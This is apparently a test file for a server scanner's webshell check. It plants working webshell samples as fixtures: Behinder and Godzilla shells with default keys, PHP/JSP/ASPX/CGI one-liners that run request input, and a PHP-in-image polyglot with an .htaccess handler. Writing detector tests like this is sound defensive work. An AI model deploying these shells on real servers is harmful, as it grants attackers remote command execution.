import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdir, symlink } from 'node:fs/promises';
import path from 'node:path';
import { webshellsCheck } from '../../src/checks/webshells.js';
import { hijackedCommandsCheck } from '../../src/checks/hijacked-commands.js';
import { ALL_CHECKS } from '../../src/checks/index.js';
import { directiveRoots } from '../../src/checks/shared/web-roots.js';
import { severityRank, type Finding } from '../../src/model/finding.js';
import { builtinRules, scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { scanTarget } from '../../src/engine/scan.js';
import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { put } from '../helpers/planted-tree.js';
import { fixture } from '../helpers/fixtures.js';

const run = promisify(execFile);

const b64 = (s: string) => Buffer.from(s).toString('base64');
const summary = (findings: Finding[]) => findings.map((f) => `${f.rule} ${f.severity} ${f.path}${f.line !== undefined ? `:${f.line}` : ''}`).sort();
const mediumOrWorse = (findings: Finding[]) => findings.filter((f) => severityRank(f.severity) >= severityRank('medium'));

/** Behinder's PHP shell, as its kit writes it (default key). */
const BEHINDER_PHP = `<?php
@error_reporting(0);
session_start();
    $key="e45e329feb5d925b";
    $_SESSION['k']=$key;
    session_write_close();
    $post=file_get_contents("php://input");
    $post=openssl_decrypt($post, "AES128", $key);
    $arr=explode('|',$post);
    $func=$arr[0];
    $params=$arr[1];
    class C{public function __invoke($p) {eval($p."");}}
    @call_user_func(new C(),$params);
?>
`;

/** Godzilla's PHP shell head (default key "key", password "pass"). */
const GODZILLA_PHP = `<?php
@session_start();
@set_time_limit(0);
function encode($D,$K){
    for($i=0;$i<strlen($D);$i++) { $c = $K[$i+1&15]; $D[$i] = $D[$i]^$c; }
    return $D;
}
$pass='pass';
$payloadName='payload';
$key='3c6e0b8a9c15224a';
if (isset($_POST[$pass])){
    $data=encode(base64_decode($_POST[$pass]),$key);
}
`;

const BEHINDER_JSP =
  '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>' +
  '<%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>\n';

const JPEG_HEAD = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);

describe('webshells', () => {
  let scratch: string;
  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-webshells-');
  });
  afterAll(async () => {
    await removeScratchDir(scratch);
  });

  it('runs after the persistence checks and before the hijacked-commands check', () => {
    expect(ALL_CHECKS.indexOf(webshellsCheck)).toBeGreaterThan(-1);
    expect(ALL_CHECKS.indexOf(webshellsCheck)).toBe(ALL_CHECKS.indexOf(hijackedCommandsCheck) - 1);
  });

  it('finds the webshells of each language in the fixed and the configured web roots', async () => {
    const root = path.join(scratch, 'infected');
    const w = '/var/www/html';
    await put(root, `${w}/uploads/x.php`, `<?php @eval($_POST['pass']);?>`);
    await put(root, `${w}/cmd.php`, `<?php\n// tools\nif (isset($_GET['cmd'])) { system($_GET['cmd']); }\n`);
    await put(root, `${w}/b.php`, '<?php echo `$_GET[c]`; ?>');
    await put(root, `${w}/vf.php`, `<?php @$_GET['f']($_GET['a']); ?>`);
    await put(root, `${w}/enc.php`, `<?php\neval(base64_decode('${b64('system($_REQUEST["c"]);')}'));\n`);
    await put(root, `${w}/pr.php`, `<?php preg_replace("/.*/e", $_POST['x'], "");`);
    await put(root, `${w}/wp-content/plugins/hello/behinder.php`, BEHINDER_PHP);
    await put(root, `${w}/godzilla.php`, GODZILLA_PHP);
    await put(root, '/var/lib/tomcat9/webapps/ROOT/shell.jsp', `<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`);
    await put(root, '/var/lib/tomcat9/webapps/ROOT/run.jsp', `<%\nString[] c = {"/bin/sh", "-c", "id"};\nProcess p = new ProcessBuilder(c).start();\n%>`);
    await put(root, '/var/lib/tomcat9/webapps/ROOT/b.jsp', BEHINDER_JSP);
    await put(root, `${w}/c.aspx`, `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`);
    await put(root, `${w}/cmd.aspx`, `<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]); %>`);
    await put(root, `${w}/x.cgi`, `#!/usr/bin/perl\nuse CGI qw(param);\nprint "Content-type: text/plain\\n\\n";\nsystem(param("cmd"));\n`);
    await put(root, `${w}/uploads/logo.jpg`, `GIF89a<?php system($_GET['c']); ?>`);
    await put(root, `${w}/uploads/.htaccess`, 'AddType application/x-httpd-php .jpg\n');
    // Served only because a site configuration names the directory.
    await put(root, '/etc/nginx/sites-enabled/app', 'server {\n  listen 80;\n  root /srv/app/public; # the app\n  location /static/ { alias "/opt/static/"; }\n}\n');
    await put(root, '/srv/app/public/index.php', `<?php passthru($_SERVER['HTTP_X_CMD']); ?>`);
    await put(root, '/opt/static/s.php', `<?php assert($_REQUEST['a']); ?>`);
    await put(root, '/etc/apache2/sites-enabled/000-default.conf', '<VirtualHost *:80>\n  DocumentRoot "/data/site"\n</VirtualHost>\n');
    await put(root, '/data/site/up.php', `<?php $o = shell_exec($_COOKIE['c']); echo $o;`);
    // A link in a web root is served like its target: the target is scanned (once).
    await put(root, '/opt/hidden/s.php', `<?php echo shell_exec($_POST['c']);`);
    await symlink('/opt/hidden/s.php', path.join(root, `${w}/link.php`));
    // A shell appended after 600 KiB of ordinary code is in the tail read.
    await put(root, `${w}/big.php`, `<?php\n${'// filler line of an ordinary big file\n'.repeat(16_000)}@eval($_POST['z']);\n`);

    const result = await scanDirectory(root, [webshellsCheck]);
    expect(result.errors).toEqual([]);
    expect(summary(result.findings)).toEqual(
      [
        'webshell.aspx-eval-request high /var/www/html/c.aspx:1',
        'webshell.aspx-process-request high /var/www/html/cmd.aspx:1',
        'webshell.behinder high /var/lib/tomcat9/webapps/ROOT/b.jsp:1',
        'webshell.behinder high /var/www/html/wp-content/plugins/hello/behinder.php:4',
        'webshell.behinder high /var/www/html/wp-content/plugins/hello/behinder.php:12',
        'webshell.cgi-command-request high /var/www/html/x.cgi:4',
        'webshell.godzilla high /var/www/html/godzilla.php:10',
        'webshell.image-runs-as-php medium /var/www/html/uploads/.htaccess:1',
        'webshell.jsp-class-loader high /var/lib/tomcat9/webapps/ROOT/b.jsp:1',
        'webshell.jsp-command medium /var/lib/tomcat9/webapps/ROOT/run.jsp:3',
        'webshell.jsp-command-request high /var/lib/tomcat9/webapps/ROOT/shell.jsp:1',
        'webshell.php-backtick-request high /var/www/html/b.php:1',
        'webshell.php-command-request high /data/site/up.php:1',
        'webshell.php-command-request high /opt/hidden/s.php:1',
        'webshell.php-command-request high /srv/app/public/index.php:1',
        'webshell.php-command-request high /var/www/html/cmd.php:3',
        'webshell.php-command-request high /var/www/html/enc.php:2',
        'webshell.php-command-request high /var/www/html/uploads/logo.jpg:1',
        'webshell.php-encoded-eval high /var/www/html/enc.php:2',
        'webshell.php-eval-request high /opt/static/s.php:1',
        'webshell.php-eval-request high /var/www/html/big.php',
        'webshell.php-eval-request high /var/www/html/uploads/x.php:1',
        'webshell.php-in-image high /var/www/html/uploads/logo.jpg',
        'webshell.php-preg-replace-eval high /var/www/html/pr.php:1',
        'webshell.php-variable-function-request high /var/www/html/vf.php:1',
      ].sort(),
    );

    const one = result.findings.find((f) => f.path === '/var/www/html/uploads/x.php')!;
    expect(one.category).toBe('webshell');
    expect(one.evidence).toBe(`<?php @eval($_POST['pass']);?>`);
    expect(one.message).toContain('/var/www/html/uploads/x.php:1 evaluates request input as PHP code');
    expect(one.remediation).toContain('rm -f /var/www/html/uploads/x.php');
    expect(one.remediation).toContain('zgrep -F x.php /var/log/nginx/access.log* /var/log/apache2/access.log* /var/log/httpd/access_log*');
    const decoded = result.findings.find((f) => f.rule === 'webshell.php-command-request' && f.path === '/var/www/html/enc.php')!;
    expect(decoded.evidence).toBe('base64-decoded: system($_REQUEST["c"]);');
    expect(decoded.message).toContain('/var/www/html/enc.php:2 (base64-decoded) runs request input');
    const tail = result.findings.find((f) => f.path === '/var/www/html/big.php')!;
    expect(tail.message).toContain('/var/www/html/big.php (in its last 64 KiB)');
    const image = result.findings.find((f) => f.rule === 'webshell.php-in-image')!;
    expect(image.message).toContain(`is named like an image but is PHP code (it starts with "GIF89a<?php system`);
  });

  it('finds shells in a tar of a root read in one pass, where only declared files are kept', async () => {
    const root = path.join(scratch, 'tarred');
    await put(root, '/var/www/html/uploads/x.php', `<?php @eval($_POST['pass']);?>`);
    await put(root, '/var/www/html/uploads/a.gif', `GIF89a<?php /* ${'-'.repeat(100)} */ system($_GET['c']); ?>`);
    await put(root, '/var/www/html/uploads/photo.png', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(1 << 20, 7)]));
    await put(root, '/var/www/html/.htaccess', 'AddHandler application/x-httpd-php .png\n');
    const tarball = path.join(scratch, 'tarred.tar.gz');
    await run('tar', ['-C', root, '-czf', tarball, '.']);
    const report = await scanTarget(tarball, { checks: [webshellsCheck], rules: await builtinRules(), hashes: EMPTY_HASH_LIST });
    expect(report.source).toMatchObject({ format: 'tar+gzip' });
    expect(report.findings.map((f) => `${f.rule} ${f.path}`).sort()).toEqual([
      'webshell.image-runs-as-php /var/www/html/.htaccess',
      'webshell.php-eval-request /var/www/html/uploads/x.php',
      'webshell.php-in-image /var/www/html/uploads/a.gif',
    ]);
    // The PHP after the GIF header was not kept: reading on is an error, not a silent miss.
    expect(report.errors).toEqual([expect.objectContaining({ path: '/var/www/html/uploads/a.gif' })]);
  });

  it('stays quiet on ordinary sites: templating eval, admin exec, base64 of uploads, documentation', async () => {
    const root = path.join(scratch, 'clean');
    const w = '/var/www/html';
    await put(root, `${w}/index.php`, `<?php\n$page = $_GET['page'] ?? 'home';\ninclude __DIR__ . '/pages/' . basename($page) . '.php';\n`);
    await put(root, `${w}/lib/template.php`, `<?php\n// Compiled templates are PHP.\neval('?>' . $compiled);\n$r = eval("return {$expr};");\n`);
    await put(root, `${w}/admin/version.php`, `<?php\n$rev = exec('git rev-parse HEAD');\n$pdo->exec($_POST['sql']);\n$db::exec($_GET['q']);\n`);
    await put(root, `${w}/upload.php`, `<?php\n$data = base64_decode($_POST['image']);\nfile_put_contents('/var/www/uploads/' . md5($data) . '.png', $data);\n`);
    await put(root, `${w}/docs.php`, "<?php\n/**\n * Reads `$_GET['id']` and `$_POST['name']`.\n * Never pass $_GET to system().\n */\nfunction h() {}\n");
    await put(root, `${w}/api.php`, `<?php\n$cmd = escapeshellarg($name);\n$out = shell_exec("convert $cmd out.png");\npreg_replace('/\\s+/', ' ', $text);\n`);
    await put(root, '/var/lib/tomcat9/webapps/ROOT/index.jsp', '<% String name = request.getParameter("name"); out.println(name); %>\n');
    await put(root, `${w}/photo.jpg`, Buffer.concat([JPEG_HEAD, Buffer.from('<?php is just text inside a comment segment later on'.padStart(2000, 'x'))]));
    await put(root, `${w}/.htaccess`, 'RewriteEngine On\nRewriteRule ^(.*)$ index.php?q=$1 [L,QSA]\nAddType image/webp .webp\n');
    await put(root, '/etc/nginx/sites-enabled/default', 'server {\n  root /var/www/html;\n  location ~ \\.php$ { fastcgi_pass unix:/run/php/php8.2-fpm.sock; }\n}\n');

    const result = await scanDirectory(root, [webshellsCheck]);
    expect(result.errors).toEqual([]);
    expect(result.findings).toEqual([]);
    expect(result.filesExamined).toBe(10);
  });

  it('gives no finding over the PHP of WordPress, phpMyAdmin, MediaWiki, Roundcube, Laravel, Twig, TCPDF and phpseclib', async () => {
    const result = await scanDirectory(path.join(fixture('phpCorpus'), 'root'), [webshellsCheck]);
    expect(result.errors).toEqual([]);
    expect(summary(mediumOrWorse(result.findings))).toEqual([]);
    expect(result.findings).toEqual([]);
    // Reached through the nginx site the corpus script writes: every application was read.
    expect(result.filesExamined).toBeGreaterThan(7000);
  }, 600_000);

  it('survives hostile web roots: huge lines, binary junk, link loops, configurations naming "/"', async () => {
    const root = path.join(scratch, 'hostile');
    const w = '/var/www/html';
    await put(root, `${w}/min.php`, `<?php ${'eval(eval(system(exec( $x'.repeat(200_000)}`);
    await put(root, `${w}/quotes.php`, `<?php ${'preg_replace("/'.repeat(100_000)}`);
    await put(root, `${w}/ticks.php`, `<?php $a = \`${'$_GET '.repeat(200_000)}`);
    await put(root, `${w}/junk.php`, Buffer.from(Array.from({ length: 1 << 20 }, (_, i) => (i * 2654435761) >>> 24)));
    await put(root, `${w}/huge.jpg`, Buffer.concat([Buffer.from('<?php '), Buffer.alloc(3 << 20, 0x41)]));
    await mkdir(path.join(root, `${w}/loop`), { recursive: true });
    await symlink('..', path.join(root, `${w}/loop/up`));
    await symlink('/var/www/html/nowhere.php', path.join(root, `${w}/dangling.php`));
    await put(root, '/etc/nginx/conf.d/bad.conf', `server { root /; }\nserver { root /usr; }\nserver { root $document_root; }\n${'#'.repeat(1 << 20)}\n`);
    await put(root, '/opt/not-served.php', `<?php @eval($_POST['x']);`);

    const result = await scanHostile(root, [webshellsCheck], { maxOperations: 300 });
    expect(result.errors).toEqual([]);
    // Only the PHP-in-image finding: nothing in the junk matches, and "/" was not walked.
    expect(summary(result.findings)).toEqual(['webshell.php-in-image high /var/www/html/huge.jpg']);
  }, 60_000);

  it('reads web roots from nginx and Apache site directives, skipping variables and system trees', () => {
    expect(
      directiveRoots(
        [
          'server {',
          '    root   /srv/shop/public ;',
          '    location /media/ { alias /data/media/; }',
          "    root '/srv/quoted';",
          '    # root /srv/commented;',
          '    root $document_root;',
          '    root /usr;',
          '}',
          '<VirtualHost *:443>',
          '  DocumentRoot "/var/www/vhosts/a.example/httpdocs"',
          '  Alias /static /opt/app/static',
          '  documentroot /srv/lower',
          '  DocumentRoot relative/dir',
          '</VirtualHost>',
        ].join('\n'),
      ),
    ).toEqual(['/srv/shop/public', '/data/media', '/srv/quoted', '/var/www/vhosts/a.example/httpdocs', '/opt/app/static', '/srv/lower']);
  });
});
